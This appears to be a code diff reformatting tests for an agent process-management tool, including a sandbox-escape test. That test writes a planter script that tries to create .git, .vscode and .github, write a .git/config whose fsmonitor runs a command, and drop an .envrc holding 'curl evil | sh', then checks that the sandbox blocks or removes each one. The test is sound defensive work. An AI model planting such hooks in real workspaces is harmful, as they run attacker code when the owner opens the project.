@@ -11,7 +11,16 @@ import { sandboxStatus, testSandbox } from '../../support/sandbox';
 import { createStopTool } from '../../../src/main/tools/stop';
 import { createPreviewTool } from '../../../src/main/tools/preview';
 import { createPortResolver } from '../../../src/main/preview/ports';
-import { FAMILY, databaseWithAgents, familyPids, killQuietly, removeTempDirs, tempDir, toolContext, waitGone } from '../processes/helpers';
+import {
+  FAMILY,
+  databaseWithAgents,
+  familyPids,
+  killQuietly,
+  removeTempDirs,
+  tempDir,
+  toolContext,
+  waitGone,
+} from '../processes/helpers';
 
 const cleanups: Array<() => Promise<void> | void> = [];
 afterEach(async () => {
@@ -34,7 +43,15 @@ function setup(settleMs = 300) {
   // Uncontained here: these tests follow host pids the family prints (the escape suite covers the sandbox).
   const deps = { supervisor, settleMs };
   const ctx = (agentId = 'alice') => toolContext({ workspace: ws, agentId, dataDir });
-  return { supervisor, ws, ctx, dataDir, start: createStartTool(deps), output: createOutputTool(deps), stop: createStopTool(deps) };
+  return {
+    supervisor,
+    ws,
+    ctx,
+    dataDir,
+    start: createStartTool(deps),
+    output: createOutputTool(deps),
+    stop: createStopTool(deps),
+  };
 }
 
 type Result = { ok: true; text: string; data?: unknown } | { ok: false; status?: number; error: string };
@@ -46,7 +63,8 @@ describe('start / output / stop tools', () => {
     expect(start.effects.replaySafe).toBe(false);
     expect((await start.tierFor({ name: 'web', command: 'node idle.js' }, ctx())).tier).toBe('gated');
     const contained = createStartTool({ supervisor, sandbox: testSandbox({ dataDir }) });
-    if (sandboxStatus().available) expect((await contained.tierFor({ name: 'web', command: 'node idle.js' }, ctx())).tier).toBe('auto');
+    if (sandboxStatus().available)
+      expect((await contained.tierFor({ name: 'web', command: 'node idle.js' }, ctx())).tier).toBe('auto');
     expect((await start.tierFor({ name: 'web', command: 'npx vite' }, ctx())).tier).toBe('gated');
     expect((await output.tierFor({ name: 'web' }, ctx())).tier).toBe('auto');
     expect((await stop.tierFor({ name: 'web' }, ctx())).tier).toBe('auto');
@@ -55,7 +73,9 @@ describe('start / output / stop tools', () => {
   it('starts, reads output with a cursor, and stops the whole group', async () => {
     const { start, output, stop, ctx } = setup();
     const started = await start.run({ name: 'web', command: 'node family.cjs --listen', port: 3000 }, ctx());
-    expect(text(started)).toMatch(/^started `web` \(node family\.cjs --listen\) in the workspace on port 3000, pid \d+/);
+    expect(text(started)).toMatch(
+      /^started `web` \(node family\.cjs --listen\) in the workspace on port 3000, pid \d+/,
+    );
     let latest = '';
     const deadline = Date.now() + 20_000;
     while (!latest.includes('listening') && Date.now() < deadline) {
@@ -70,7 +90,9 @@ describe('start / output / stop tools', () => {
     expect(text(await output.run({ name: 'web', since: next }, ctx()))).toContain('(no new output)');
 
     expect(text(await stop.run({ name: 'web' }, ctx('bob')))).toMatch(/belongs to another agent/);
-    expect(text(await stop.run({ name: 'web' }, ctx()))).toMatch(/^stopped `web` \(pid \d+\): its whole process group was ended\.$/);
+    expect(text(await stop.run({ name: 'web' }, ctx()))).toMatch(
+      /^stopped `web` \(pid \d+\): its whole process group was ended\.$/,
+    );
     if (pids) await waitGone([pids.parent, pids.grandchild]);
     expect(text(await output.run({ name: 'web' }, ctx()))).toMatch(/^`web` \(stopped\)/);
   });
@@ -84,7 +106,8 @@ describe('start / output / stop tools', () => {
 
   it('refuses a 5th process and a name another agent holds', async () => {
     const { start, ctx } = setup();
-    for (const name of ['a', 'b', 'c', 'd']) expect((await start.run({ name, command: 'node idle.js' }, ctx())).ok).toBe(true);
+    for (const name of ['a', 'b', 'c', 'd'])
+      expect((await start.run({ name, command: 'node idle.js' }, ctx())).ok).toBe(true);
     const fifth = await start.run({ name: 'e', command: 'node idle.js' }, ctx());
     expect(fifth).toMatchObject({ ok: false, status: 409 });
     expect(text(fifth)).toContain('this agent already runs 4 processes');
@@ -122,82 +145,102 @@ describe('start returns when the process is ready (issue 16)', () => {
     return 'node slow.cjs';
   }
 
-  it.each([true, false])('start then preview at once succeeds against a server that takes 3 s to listen (port declared: %s)', async (declared) => {
-    const { supervisor, ws, ctx } = setup();
-    const start = createStartTool({ supervisor, settleMs: 10_000 });
-    const resolve = createPortResolver({ lookup: supervisor, ownPorts: () => [] });
-    const preview = createPreviewTool({ lookup: supervisor, preview: { resolve, inspect: async () => ({ ok: true, absoluteAssets: false }) } });
-    const port = await freePort();
-    const began = Date.now();
-    const started = await start.run({ name: 'slow', command: slowServer(ws, port), ...(declared ? { port } : {}) }, ctx());
-    expect(text(started)).toContain(`It is listening on port ${port}.`);
-    expect(Date.now() - began).toBeGreaterThanOrEqual(2_500);
-    const shown = await preview.run({ name: 'slow' }, ctx());
-    expect(text(shown)).toBe('The preview of "slow" is shown in the owner’s side pane.');
-  }, 30_000);
+  it.each([true, false])(
+    'start then preview at once succeeds against a server that takes 3 s to listen (port declared: %s)',
+    async (declared) => {
+      const { supervisor, ws, ctx } = setup();
+      const start = createStartTool({ supervisor, settleMs: 10_000 });
+      const resolve = createPortResolver({ lookup: supervisor, ownPorts: () => [] });
+      const preview = createPreviewTool({
+        lookup: supervisor,
+        preview: { resolve, inspect: async () => ({ ok: true, absoluteAssets: false }) },
+      });
+      const port = await freePort();
+      const began = Date.now();
+      const started = await start.run(
+        { name: 'slow', command: slowServer(ws, port), ...(declared ? { port } : {}) },
+        ctx(),
+      );
+      expect(text(started)).toContain(`It is listening on port ${port}.`);
+      expect(Date.now() - began).toBeGreaterThanOrEqual(2_500);
+      const shown = await preview.run({ name: 'slow' }, ctx());
+      expect(text(shown)).toBe('The preview of "slow" is shown in the owner’s side pane.');
+    },
+    30_000,
+  );
 
   it('says plainly when the process is not listening after the bounded wait', async () => {
     const { supervisor, ws, ctx } = setup();
     fs.writeFileSync(path.join(ws, 'quiet.js'), 'setInterval(() => {}, 1000);\n');
     const start = createStartTool({ supervisor, settleMs: 600 });
     const result = await start.run({ name: 'quiet', command: 'node quiet.js', port: 4999 }, ctx());
-    expect(text(result)).toMatch(/It is not listening yet after \d+ s; call output \{name: "quiet", since: \d+\} to see why/);
+    expect(text(result)).toMatch(
+      /It is not listening yet after \d+ s; call output \{name: "quiet", since: \d+\} to see why/,
+    );
   });
 });
 
-describe.skipIf(!sandboxStatus().available)('start: what a long-lived contained process may not plant (SPEC §4)', () => {
-  it('cannot make .git or .vscode while it runs; an .envrc it made is moved out at once, while it runs, and its output says so', async () => {
-    const { supervisor, ws, dataDir, ctx } = setup();
-    const planter = [
-      "const fs = require('node:fs');",
-      'const tries = [];',
-      "for (const dir of ['.git', '.vscode', '.github']) { try { fs.mkdirSync(dir + '/x', { recursive: true }); tries.push(dir + ': made'); } catch (e) { tries.push(dir + ': ' + e.code); } }",
-      "try { fs.writeFileSync('.git/config', '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n'); tries.push('config: written'); } catch (e) { tries.push('config: ' + e.code); }",
-      "fs.writeFileSync('.envrc', 'curl evil | sh\\n');",
-      "fs.writeFileSync('ordinary.txt', 'fine\\n');",
-      "console.log(tries.join('; '));",
-      // It keeps running: the .envrc must be gone before it ends.
-      'setTimeout(() => process.exit(0), 60_000);',
-    ].join('\n');
-    fs.writeFileSync(path.join(ws, 'plant.cjs'), planter);
-    const start = createStartTool({ supervisor, settleMs: 200, sandbox: testSandbox({ dataDir }) });
-    const output = createOutputTool({ supervisor });
-    await start.run({ name: 'planter', command: 'node plant.cjs' }, ctx());
-    // While it runs, the placeholders stand (empty, read-only inside).
-    const deadline = Date.now() + 20_000;
-    let said = '';
-    while (Date.now() < deadline) {
-      said = text(await output.run({ name: 'planter' }, ctx()));
-      if (said.includes('[paddock]')) break;
-      await new Promise((resolve) => setTimeout(resolve, 100));
-    }
-    // Each refused, whatever errno the runtime names (Node's recursive mkdir reports ENOENT for EROFS).
-    expect(said).toMatch(/\.git: E[A-Z]+; \.vscode: E[A-Z]+; \.github: E[A-Z]+; config: E[A-Z]+/);
-    expect(said).not.toContain('made');
-    expect(said).not.toContain('written');
-    expect(said).toContain('`.envrc` appeared');
-    expect(fs.existsSync(path.join(ws, '.envrc'))).toBe(false);
-    expect(supervisor.list().find((row) => row.name === 'planter')?.status).toBe('running');
-    await supervisor.stop(ctx().agent.id, 'planter');
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    // After it ended: no placeholder left behind, no repository, no .envrc; ordinary work kept.
-    for (const name of ['.git', '.vscode', '.github', '.envrc']) expect(fs.existsSync(path.join(ws, name)), name).toBe(false);
-    expect(fs.readFileSync(path.join(ws, 'ordinary.txt'), 'utf8')).toBe('fine\n');
-    expect(fs.readdirSync(path.join(dataDir, 'refused')).some((name) => name.endsWith('.envrc'))).toBe(true);
-  }, 30_000);
+describe.skipIf(!sandboxStatus().available)(
+  'start: what a long-lived contained process may not plant (SPEC §4)',
+  () => {
+    it('cannot make .git or .vscode while it runs; an .envrc it made is moved out at once, while it runs, and its output says so', async () => {
+      const { supervisor, ws, dataDir, ctx } = setup();
+      const planter = [
+        "const fs = require('node:fs');",
+        'const tries = [];',
+        "for (const dir of ['.git', '.vscode', '.github']) { try { fs.mkdirSync(dir + '/x', { recursive: true }); tries.push(dir + ': made'); } catch (e) { tries.push(dir + ': ' + e.code); } }",
+        "try { fs.writeFileSync('.git/config', '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n'); tries.push('config: written'); } catch (e) { tries.push('config: ' + e.code); }",
+        "fs.writeFileSync('.envrc', 'curl evil | sh\\n');",
+        "fs.writeFileSync('ordinary.txt', 'fine\\n');",
+        "console.log(tries.join('; '));",
+        // It keeps running: the .envrc must be gone before it ends.
+        'setTimeout(() => process.exit(0), 60_000);',
+      ].join('\n');
+      fs.writeFileSync(path.join(ws, 'plant.cjs'), planter);
+      const start = createStartTool({ supervisor, settleMs: 200, sandbox: testSandbox({ dataDir }) });
+      const output = createOutputTool({ supervisor });
+      await start.run({ name: 'planter', command: 'node plant.cjs' }, ctx());
+      // While it runs, the placeholders stand (empty, read-only inside).
+      const deadline = Date.now() + 20_000;
+      let said = '';
+      while (Date.now() < deadline) {
+        said = text(await output.run({ name: 'planter' }, ctx()));
+        if (said.includes('[paddock]')) break;
+        await new Promise((resolve) => setTimeout(resolve, 100));
+      }
+      // Each refused, whatever errno the runtime names (Node's recursive mkdir reports ENOENT for EROFS).
+      expect(said).toMatch(/\.git: E[A-Z]+; \.vscode: E[A-Z]+; \.github: E[A-Z]+; config: E[A-Z]+/);
+      expect(said).not.toContain('made');
+      expect(said).not.toContain('written');
+      expect(said).toContain('`.envrc` appeared');
+      expect(fs.existsSync(path.join(ws, '.envrc'))).toBe(false);
+      expect(supervisor.list().find((row) => row.name === 'planter')?.status).toBe('running');
+      await supervisor.stop(ctx().agent.id, 'planter');
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      // After it ended: no placeholder left behind, no repository, no .envrc; ordinary work kept.
+      for (const name of ['.git', '.vscode', '.github', '.envrc'])
+        expect(fs.existsSync(path.join(ws, name)), name).toBe(false);
+      expect(fs.readFileSync(path.join(ws, 'ordinary.txt'), 'utf8')).toBe('fine\n');
+      expect(fs.readdirSync(path.join(dataDir, 'refused')).some((name) => name.endsWith('.envrc'))).toBe(true);
+    }, 30_000);
 
-  it('leaves the owner’s own .vscode alone, and a placeholder the owner wrote into stays', async () => {
-    const { supervisor, ws, dataDir, ctx } = setup();
-    fs.writeFileSync(path.join(ws, 'wait.cjs'), 'setTimeout(() => process.exit(0), 1500);\n');
-    const start = createStartTool({ supervisor, settleMs: 200, sandbox: testSandbox({ dataDir }) });
-    await start.run({ name: 'waiter', command: 'node wait.cjs' }, ctx());
-    expect(fs.readdirSync(path.join(ws, '.vscode'))).toEqual([]);
-    // The owner's editor writes settings while the process runs (outside the sandbox).
-    fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{}\n');
-    const deadline = Date.now() + 20_000;
-    while (Date.now() < deadline && supervisor.list().some((row) => row.name === 'waiter' && row.status === 'running')) await new Promise((resolve) => setTimeout(resolve, 100));
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    expect(fs.readFileSync(path.join(ws, '.vscode', 'settings.json'), 'utf8')).toBe('{}\n');
-    expect(fs.existsSync(path.join(ws, '.idea'))).toBe(false);
-  }, 30_000);
-});
+    it('leaves the owner’s own .vscode alone, and a placeholder the owner wrote into stays', async () => {
+      const { supervisor, ws, dataDir, ctx } = setup();
+      fs.writeFileSync(path.join(ws, 'wait.cjs'), 'setTimeout(() => process.exit(0), 1500);\n');
+      const start = createStartTool({ supervisor, settleMs: 200, sandbox: testSandbox({ dataDir }) });
+      await start.run({ name: 'waiter', command: 'node wait.cjs' }, ctx());
+      expect(fs.readdirSync(path.join(ws, '.vscode'))).toEqual([]);
+      // The owner's editor writes settings while the process runs (outside the sandbox).
+      fs.writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{}\n');
+      const deadline = Date.now() + 20_000;
+      while (
+        Date.now() < deadline &&
+        supervisor.list().some((row) => row.name === 'waiter' && row.status === 'running')
+      )
+        await new Promise((resolve) => setTimeout(resolve, 100));
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      expect(fs.readFileSync(path.join(ws, '.vscode', 'settings.json'), 'utf8')).toBe('{}\n');
+      expect(fs.existsSync(path.join(ws, '.idea'))).toBe(false);
+    }, 30_000);
+  },
+);
